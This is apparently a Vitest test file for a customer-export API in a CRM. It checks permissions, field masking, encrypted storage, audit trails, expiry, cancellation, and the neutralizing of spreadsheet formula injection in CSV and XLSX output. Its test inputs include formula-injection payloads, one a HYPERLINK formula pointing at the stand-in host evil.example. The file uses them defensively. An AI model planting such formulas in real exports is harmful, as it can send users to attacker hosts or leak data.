import fs from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { systemActor } from '../actor.js';
import { DEFAULT_ROLES } from '../access/default-roles.js';
import { call, createTestApp, inviteMember, memberWithoutAccess, signIn, STRONG_PASSWORD, uniqueEmail, workspaceWithAdmin, type Session, type TestApp } from '../../../test/factories.js';
import { EXPORT_TTL_MS, STALE_MS, type ExportJob } from './service.js';

/** POST /api/customers/exports and its job: authorization, field levels, formula injection, the reason rule, audit, download, expiry, cancel. */

/** Stored values are trimmed, so a leading tab or carriage return never reaches a file: cells.test.ts covers those. */
const INJECTIONS = ['=HYPERLINK("http://evil.example/?x","click")', '+1', '-2', '@SUM(A1:A2)'];

let t: TestApp;
let workspaceId: string;
let owner: Session;
let ownerId: string;
let ownerEmail: string;

beforeEach(async () => {
  t = await createTestApp();
  const built = await workspaceWithAdmin(t);
  ({ workspaceId } = built);
  owner = built.admin;
  ownerId = built.owner.user.id;
  ownerEmail = built.owner.email;
});
afterEach(async () => {
  // A cancelled export's runner may still be deleting its file: the data directory goes after it.
  await t.services.exports.idle();
  await t.close();
});

async function create(session: Session, body: Record<string, unknown>): Promise<string> {
  const response = await call(t, 'POST', '/api/customers', { session, body });
  expect(response.statusCode, response.body).toBe(201);
  return response.json().id;
}

/** Starts an export and waits for it to end; answers the finished job. */
async function exportAs(session: Session, body: Record<string, unknown>): Promise<ExportJob> {
  const started = await call(t, 'POST', '/api/customers/exports', { session, body });
  expect(started.statusCode, started.body).toBe(202);
  return finished(session, started.json().id);
}

async function finished(session: Session, id: string): Promise<ExportJob> {
  for (let tries = 0; tries < 500; tries++) {
    const job = (await call(t, 'GET', `/api/customers/exports/${id}`, { session })).json() as ExportJob;
    if (job.status !== 'running') return job;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  throw new Error('the export did not end');
}

async function download(session: Session, id: string, headers: Record<string, string> = {}) {
  return t.app.inject({ method: 'GET', url: `/api/customers/exports/${id}/file`, headers: { cookie: session.cookieHeader, ...headers } });
}

/** A CSV's records, quoted fields read back (RFC 4180), without the BOM. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return records;
}

async function exportEvents() {
  const rows = await t.db.selectFrom('audit_events').select(['metadata', 'actor_id']).where('workspace_id', '=', workspaceId).where('action', '=', 'customers.exported').orderBy('seq').execute();
  return rows.map((row): Record<string, unknown> => ({ actorId: row.actor_id, ...(JSON.parse(row.metadata ?? '{}') as Record<string, unknown>) }));
}

async function member(role: string): Promise<{ session: Session; userId: string }> {
  const email = uniqueEmail(role);
  const user = await t.services.users.add(systemActor(workspaceId, 'test'), { workspaceId, email, displayName: role, password: STRONG_PASSWORD, role });
  return { session: await signIn(t, email, STRONG_PASSWORD), userId: user.id };
}

describe('exporting the customers list', () => {
  it('writes a UTF-8 CSV with a BOM, labels in the requester’s language, and neutralizes formula cells', async () => {
    const ids: string[] = [];
    for (const [i, text] of INJECTIONS.entries()) ids.push(await create(owner, { kind: 'person', name: `张伟 ${i}`, source: text, tags: ['a,b', 'say "hi"'] }));
    const job = await exportAs(owner, { format: 'csv', kind: 'person', columns: ['name', 'source', 'tags'], sort: 'createdAt', reason: 'quarterly review' });
    expect(job).toMatchObject({ status: 'completed', format: 'csv', rows: INJECTIONS.length, columns: ['name', 'source', 'tags'], progress: { done: INJECTIONS.length, total: INJECTIONS.length, eta: 0 } });
    expect(Date.parse(job.expiresAt!) - Date.parse(job.finishedAt!)).toBe(EXPORT_TTL_MS);

    const file = await download(owner, job.id);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(file.headers['content-disposition']).toBe('attachment; filename="customers-20261129-090000.csv"');
    expect(file.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records = parseCsv(file.rawPayload.subarray(3).toString('utf8'));
    expect(records[0]).toEqual(['id', 'Name', 'Source', 'Tags']);
    expect(records.slice(1)).toEqual(INJECTIONS.map((text, i) => [ids[i], `张伟 ${i}`, `'${text}`, 'a,b; say "hi"']));

    const chinese = await t.app.inject({
      method: 'POST',
      url: '/api/customers/exports',
      headers: { cookie: owner.cookieHeader, 'x-csrf-token': owner.csrfToken, 'accept-language': 'zh-CN,zh;q=0.9' },
      payload: { format: 'csv', kind: 'person', columns: ['name', 'source'], reason: 'quarterly review' },
    });
    const zhJob = await finished(owner, chinese.json().id);
    const zhFile = await download(owner, zhJob.id);
    expect(parseCsv(zhFile.rawPayload.subarray(3).toString('utf8'))[0]).toEqual(['id', '姓名', '来源']);
    // The web app says its own language, whatever the browser's.
    const chosen = await exportAs(owner, { format: 'csv', kind: 'person', columns: ['name'], reason: 'quarterly review', language: 'zh-CN' });
    expect(parseCsv((await download(owner, chosen.id)).rawPayload.subarray(3).toString('utf8'))[0]).toEqual(['id', '姓名']);
  });

  it('writes XLSX with every value a string cell, formula text neutralized', async () => {
    for (const text of INJECTIONS) await create(owner, { kind: 'person', name: text, source: text, companyName: text });
    const job = await exportAs(owner, { format: 'xlsx', kind: 'person', columns: ['name', 'source', 'companyName'], sort: 'createdAt', reason: 'quarterly review' });
    const file = await download(owner, job.id);
    expect(file.headers['content-disposition']).toMatch(/^attachment; filename="customers-\d{8}-\d{6}\.xlsx"$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from(file.rawPayload));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).values).toEqual([undefined, 'id', 'Name', 'Source', 'Company (as written)']);
    for (const [i, text] of INJECTIONS.entries()) {
      const row = sheet.getRow(i + 2);
      for (const column of [2, 3, 4]) {
        const cell = row.getCell(column);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        if (column > 2) expect(cell.value).toBe(`'${text}`);
      }
    }
  });

  it('needs a reason for personal columns or more than 1,000 rows, and says so before starting', async () => {
    await create(owner, { kind: 'person', name: 'Li Na', email: 'li.na@example.com', source: 'fair' });
    const refused = await call(t, 'POST', '/api/customers/exports', { session: owner, body: { format: 'csv', columns: ['name', 'source'] } });
    expect(refused.statusCode).toBe(400);
    expect(refused.json().error).toMatchObject({ code: 'reason_required', field: 'reason' });
    const tooShort = await call(t, 'POST', '/api/customers/exports', { session: owner, body: { format: 'csv', columns: ['email'], reason: ' ab ' } });
    expect(tooShort.json().error.code).toBe('reason_required');
    expect((await call(t, 'GET', '/api/customers/exports/estimate?column=name&column=source', { session: owner })).json()).toEqual({ rows: 1, reasonRequired: true });
    expect((await call(t, 'GET', '/api/customers/exports/estimate?column=source&kind=person', { session: owner })).json()).toEqual({ rows: 1, reasonRequired: false });
    expect((await exportAs(owner, { format: 'csv', columns: ['source', 'tags'] })).status).toBe('completed');

    const many = Array.from({ length: 1_000 }, (_, i) => ({ kind: 'company', name: `Company ${i}`, industry: 'Retail' }));
    expect((await t.services.vault.createMany(systemActor(workspaceId, 'seed'), many)).created).toHaveLength(1_000);
    expect((await call(t, 'GET', '/api/customers/exports/estimate?column=source', { session: owner })).json()).toEqual({ rows: 1_001, reasonRequired: true });
    expect((await call(t, 'GET', '/api/customers/exports/estimate?column=industry&kind=company', { session: owner })).json()).toEqual({ rows: 1_000, reasonRequired: false });
    const large = await call(t, 'POST', '/api/customers/exports', { session: owner, body: { format: 'csv', columns: ['source'] } });
    expect(large.json().error).toMatchObject({ code: 'reason_required', field: 'reason' });
    const job = await exportAs(owner, { format: 'csv', columns: ['industry'], reason: 'migration to the new ERP' });
    expect(job).toMatchObject({ status: 'completed', rows: 1_001 });
    // One event per page of at most 500 rows, each naming its customers: together, every row.
    const events = await exportEvents();
    const pages = events.filter((event) => event.exportId === job.id);
    expect(pages.map((event) => event.rows)).toEqual([500, 500, 1]);
    expect(new Set(pages.flatMap((event) => event.customerIds as string[])).size).toBe(1_001);
  });

  it('records each page: rows, fields, the query’s shape, the reason, the customers; the download too', async () => {
    const a = await create(owner, { kind: 'person', name: 'Li Na', email: 'li.na@example.com', lifecycleStage: 'lead' });
    await create(owner, { kind: 'person', name: 'Wang Fang', lifecycleStage: 'customer' });
    const job = await exportAs(owner, { format: 'csv', q: 'Li Na', kind: 'person', filters: ['lifecycleStage:eq:lead'], columns: ['name', 'email'], reason: 'send to the auditor' });
    expect(job.rows).toBe(1);
    const [event] = await exportEvents();
    expect(event).toEqual({
      actorId: ownerId,
      rows: 1,
      exportId: job.id,
      format: 'csv',
      fields: ['name', 'email'],
      filters: { search: 'text', kind: 'person', filters: ['lifecycleStage:eq'], sort: '-createdAt' },
      reason: 'send to the auditor',
      customerIds: [a],
    });
    // The search text and filter values are not in the trail.
    expect(JSON.stringify(event)).not.toMatch(/Li Na|lead"/);
    const linked = await t.db.selectFrom('audit_event_customers').select('customer_id').where('workspace_id', '=', workspaceId).execute();
    expect(linked.map((row) => row.customer_id)).toContain(a);

    // An export that matched nobody is recorded too.
    const none = await exportAs(owner, { format: 'xlsx', kind: 'company', columns: ['name'] });
    expect(none).toMatchObject({ status: 'completed', rows: 0 });
    expect((await exportEvents()).find((event) => event.exportId === none.id)).toMatchObject({ rows: 0, customerIds: [], fields: ['name'], format: 'xlsx' });

    await download(owner, job.id);
    const downloaded = await t.db.selectFrom('audit_events').select(['object_id', 'metadata']).where('workspace_id', '=', workspaceId).where('action', '=', 'customers.export_downloaded').execute();
    expect(downloaded).toHaveLength(1);
    expect(downloaded[0]!.object_id).toBe(job.id);
    expect(JSON.parse(downloaded[0]!.metadata!)).toMatchObject({ format: 'csv', rows: 1 });
  });

  it('shows each field at the exporter’s level: masked stays masked, hidden is absent, sensitive never in clear', async () => {
    await create(owner, { kind: 'person', name: '张伟', email: 'zhang.wei@example.com', phone: '+8613800138000', nationalId: '11010519491231002X', source: 'fair' });
    // The owner: personal values in clear, the national ID masked (sensitive values are shown only through a reveal).
    const own = await exportAs(owner, { format: 'csv', kind: 'person', columns: ['name', 'email', 'nationalId'], reason: 'checking the masks' });
    const ownCsv = (await download(owner, own.id)).rawPayload.toString('utf8');
    expect(ownCsv).toContain('zhang.wei@example.com');
    expect(ownCsv).not.toContain('11010519491231002X');
    expect(parseCsv(ownCsv.slice(1))[1]![3]).toMatch(/\*/);

    // The analyst: personal values masked, the national ID hidden (not a column).
    const analyst = await member('analyst');
    const job = await exportAs(analyst.session, { format: 'csv', kind: 'person', reason: 'campaign sizing' });
    expect(job.columns).not.toContain('nationalId');
    expect(job.columns).toEqual(expect.arrayContaining(['name', 'email', 'phone', 'source']));
    const csv = (await download(analyst.session, job.id)).rawPayload.toString('utf8');
    for (const clear of ['zhang.wei@example.com', '+8613800138000', '11010519491231002X', '张伟']) expect(csv).not.toContain(clear);
    const [header, row] = parseCsv(csv.slice(1));
    expect(row![header!.indexOf('Email')]).toMatch(/\*/);
    expect(row![header!.indexOf('Source')]).toBe('fair');
    const hidden = await call(t, 'POST', '/api/customers/exports', { session: analyst.session, body: { format: 'csv', columns: ['nationalId'], reason: 'campaign sizing' } });
    expect(hidden.statusCode).toBe(403);
    expect(hidden.json().error).toMatchObject({ code: 'field_hidden', field: 'columns' });
    const unknown = await call(t, 'POST', '/api/customers/exports', { session: analyst.session, body: { format: 'csv', columns: ['shoeSize'], reason: 'campaign sizing' } });
    expect(unknown.json().error).toMatchObject({ code: 'unknown_field', field: 'columns' });
  });
});

describe('who may export', () => {
  it('a role with export exports only its export scope; without export 403; a stranger 401', async () => {
    const ownersCustomer = await create(owner, { kind: 'company', name: 'Acme Trading' });
    const salesRep = DEFAULT_ROLES.find((role) => role.key === 'sales_rep')!.permissions;
    const exporter = { ...salesRep, objects: { ...salesRep.objects, customers: { ...salesRep.objects.customers, export: 'own' } } };
    const made = await call(t, 'POST', '/api/admin/roles', { session: owner, body: { key: 'rep_exporter', labels: { en: 'Rep who exports', 'zh-CN': '可导出的销售' }, permissions: exporter } });
    expect(made.statusCode, made.body).toBe(201);
    const rep = await member('rep_exporter');
    const repsCustomer = await create(rep.session, { kind: 'company', name: 'Rep Trading' });
    // Export scope `own`: only the rep's own customer leaves, whatever else the rep may read.
    const job = await exportAs(rep.session, { format: 'csv', kind: 'company', columns: ['name'] });
    expect(job.rows).toBe(1);
    const csv = (await download(rep.session, job.id)).rawPayload.toString('utf8');
    expect(csv).toContain(repsCustomer);
    expect(csv).not.toContain(ownersCustomer);

    const plainRep = await inviteMember(t, owner, 'sales_rep');
    for (const session of [plainRep, await memberWithoutAccess(t, owner, workspaceId)]) {
      const refused = await call(t, 'POST', '/api/customers/exports', { session, body: { format: 'csv', columns: ['name'] } });
      expect(refused.statusCode).toBe(403);
      expect((await call(t, 'GET', '/api/customers/exports/estimate', { session })).statusCode).toBe(403);
      expect((await call(t, 'GET', `/api/customers/exports/${job.id}`, { session })).statusCode).toBe(403);
    }
    expect((await call(t, 'POST', '/api/customers/exports', { body: { format: 'csv' } })).statusCode).toBe(401);
    expect((await call(t, 'GET', `/api/customers/exports/${job.id}/file`)).statusCode).toBe(401);
  });

  it('only the export’s creator sees the job and downloads its file, and only for an hour', async () => {
    await create(owner, { kind: 'company', name: 'Acme Trading' });
    // A company's name is public: no reason needed.
    const job = await exportAs(owner, { format: 'csv', kind: 'company', columns: ['name'] });
    const admin = await inviteMember(t, owner, 'admin');
    for (const url of [`/api/customers/exports/${job.id}`, `/api/customers/exports/${job.id}/file`]) {
      const other = await call(t, 'GET', url, { session: admin });
      expect(other.statusCode).toBe(404);
      expect(other.json().error.code).toBe('export_not_found');
    }
    expect((await call(t, 'POST', `/api/customers/exports/${job.id}/cancel`, { session: admin })).statusCode).toBe(404);

    // The file at rest is ciphertext: no customer value, no CSV header.
    const onDisk = fs.readFileSync(path.join(t.config.dataDir, 'exports', `${job.id}.export`));
    expect(onDisk.includes(Buffer.from('Acme Trading'))).toBe(false);
    expect(onDisk.includes(Buffer.from('Company name'))).toBe(false);

    t.clock.set(new Date(t.clock.now().getTime() + EXPORT_TTL_MS + 1));
    // The session went idle meanwhile: the owner signs in again.
    const later = await signIn(t, ownerEmail, STRONG_PASSWORD);
    expect((await call(t, 'GET', `/api/customers/exports/${job.id}`, { session: later })).json()).toMatchObject({ status: 'completed', expiresAt: null });
    const expired = await call(t, 'GET', `/api/customers/exports/${job.id}/file`, { session: later });
    expect(expired.statusCode).toBe(410);
    expect(expired.json().error.code).toBe('export_expired');
    expect(await t.services.exports.sweep()).toEqual({ expired: 1, interrupted: 0 });
    expect(fs.existsSync(path.join(t.config.dataDir, 'exports', `${job.id}.export`))).toBe(false);
    const row = await t.db.selectFrom('customer_exports').select('sealed_key').where('id', '=', job.id).executeTakeFirstOrThrow();
    expect(row.sealed_key).toBeNull();
  });
});

describe('export jobs', () => {
  it('a cancelled export stops, leaves no file and offers no download', async () => {
    const many = Array.from({ length: 1_200 }, (_, i) => ({ kind: 'company', name: `Company ${i}` }));
    await t.services.vault.createMany(systemActor(workspaceId, 'seed'), many);
    const started = await call(t, 'POST', '/api/customers/exports', { session: owner, body: { format: 'xlsx', columns: ['name'], reason: 'cancel me later' } });
    expect(started.json()).toMatchObject({ status: 'running', progress: { done: 0, total: 1_200 } });
    const cancelled = await call(t, 'POST', `/api/customers/exports/${started.json().id}/cancel`, { session: owner });
    expect(cancelled.statusCode, cancelled.body).toBe(200);
    expect(cancelled.json().status).toBe('cancelled');
    const again = await call(t, 'POST', `/api/customers/exports/${started.json().id}/cancel`, { session: owner });
    expect(again.statusCode).toBe(409);
    expect(again.json().error.code).toBe('export_state');
    const file = await call(t, 'GET', `/api/customers/exports/${started.json().id}/file`, { session: owner });
    expect(file.statusCode).toBe(409);
    expect(file.json().error.code).toBe('export_not_ready');
    const exportFile = path.join(t.config.dataDir, 'exports', `${started.json().id}.export`);
    for (let tries = 0; tries < 200 && fs.existsSync(exportFile); tries++) await new Promise((resolve) => setTimeout(resolve, 10));
    expect(fs.existsSync(exportFile)).toBe(false);
    expect((await finished(owner, started.json().id)).rows).toBeLessThan(1_200);
  });

  it('a job a restart cut short reads as failed, and the sweep fails those nobody asks about', async () => {
    const at = t.clock.now().getTime() - STALE_MS - 1;
    const row = { workspace_id: workspaceId, created_by: ownerId, status: 'running', format: 'csv', columns: '["name"]', total: 10, done: 4, sealed_key: Buffer.alloc(8), bytes: null, error_code: null, created_at: at, updated_at: at, finished_at: null, expires_at: null };
    await t.db.insertInto('customer_exports').values([{ ...row, id: '0190f5a2-0000-7000-8000-000000000001' }, { ...row, id: '0190f5a2-0000-7000-8000-000000000002' }]).execute();
    const job = (await call(t, 'GET', '/api/customers/exports/0190f5a2-0000-7000-8000-000000000001', { session: owner })).json();
    expect(job).toMatchObject({ status: 'failed', error: { code: 'interrupted' }, progress: { done: 4, total: 10, eta: null } });
    expect(await t.services.exports.sweep()).toEqual({ expired: 0, interrupted: 1 });
  });
});
